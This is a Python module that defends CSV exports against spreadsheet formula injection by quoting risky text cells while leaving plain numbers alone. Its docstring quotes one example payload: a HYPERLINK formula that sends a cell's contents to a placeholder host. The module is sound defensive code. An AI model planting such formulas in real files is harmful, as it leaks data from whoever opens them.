"""CSV cells that a spreadsheet would run as formulas, neutralised (CSV injection).

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or
`@` (and, in some versions, a tab or a carriage return) as a formula, so a free-text
value such as `=HYPERLINK("http://example.invalid/?x="&A2,"Click")` would run when
someone opens the file. As OWASP recommends, such a cell is written with a single quote
before it, which makes the spreadsheet read it as text. A cell that is a plain number
(`-1.5`, `+3`, `-.5`) is left alone: it cannot run anything, and a negative number must
stay a number. Statistical software reads the quote as part of the value, so the
writers that serve it offer a raw mode instead (see docs/exports.md). No Django here.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Protocol

FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"
# A plain decimal number, as the capture layer stores it (no exponent, no thousands).
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
# Joins a row's cells, so that every cell starts right after one: a formula character
# after it marks a row to look at cell by cell (a NUL inside a cell only costs that look).
SEPARATOR = "\x00"
_MARKS = tuple(SEPARATOR + start for start in sorted(FORMULA_STARTS))


def spreadsheet_safe(cell: str) -> str:
    """The cell as a spreadsheet should see it: text that could be a formula gets a quote."""
    if cell[:1] in FORMULA_STARTS and not _NUMBER.fullmatch(cell):
        return QUOTE + cell
    return cell


def spreadsheet_safe_cells(cells: list[str]) -> list[str]:
    """A row of text cells made safe; the same list when no cell needs it (most rows).

    Joining the row and looking for a separator followed by a formula character is one
    pass in C, several times faster than looking at each cell in Python.
    """
    joined = SEPARATOR + SEPARATOR.join(cells)
    if not any(mark in joined for mark in _MARKS):
        return cells
    return [spreadsheet_safe(cell) for cell in cells]


def spreadsheet_safe_row(cells: Iterable[object]) -> list[object]:
    """Every text cell of a row made safe; numbers and other values pass unchanged."""
    return [
        QUOTE + cell
        if isinstance(cell, str) and cell[:1] in FORMULA_STARTS and not _NUMBER.fullmatch(cell)
        else cell
        for cell in cells
    ]


class RowWriter(Protocol):
    """A `csv.writer`: it writes each cell through str() (None as empty)."""

    def writerow(self, row: Iterable[object], /) -> object: ...


class SpreadsheetSafeWriter:
    """Wraps a `csv.writer` so that every row it writes is made safe for spreadsheets."""

    def __init__(self, writer: RowWriter) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> object:
        return self._writer.writerow(spreadsheet_safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
